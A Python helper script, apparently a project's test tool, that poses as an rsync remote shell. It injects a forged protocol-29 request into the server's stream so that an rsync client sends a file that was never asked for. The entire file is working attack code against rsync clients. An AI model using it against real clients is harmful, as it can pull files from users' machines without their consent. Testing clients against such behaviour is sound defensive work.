# Copyright: The Slipway developers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A remote shell for rsync that changes what the client hears: the server seems to ask for one more file.

unasked_rsync.py INDEX COMMAND... runs the command, and puts a request for the file of that index in the list, as
protocol 29 has it, before what the server's generator says. So an honest client sends a file that was never asked for.
"""

from __future__ import annotations

import os
import struct
import subprocess
import sys

#: What newer clients say, which these servers insist on.
ABILITIES = "e.LsfxCIvu"
TRANSFER = 1 << 15
DATA = 7 << 24


def main() -> int:
    index, words = int(sys.argv[1]), sys.argv[2:]
    command = [f"{word}{ABILITIES}" if word == "-pcR" else word for word in words]
    server = subprocess.Popen(command, stdout=subprocess.PIPE)
    assert server.stdout is not None
    heard = server.stdout.fileno()
    request = struct.pack("<iH4i", index, TRANSFER, 0, 0, 16, 0)  # no block of it is here
    with os.fdopen(1, "wb", buffering=0) as client:
        beginning = b""  # the version of the protocol, and the seed of checksums
        while len(beginning) < 8:
            beginning += os.read(heard, 8 - len(beginning)) or sys.exit("The server said nothing.")
        client.write(beginning + struct.pack("<I", len(request) | DATA) + request)
        while data := os.read(heard, 1 << 16):
            client.write(data)
    return server.wait()


if __name__ == "__main__":
    sys.exit(main())
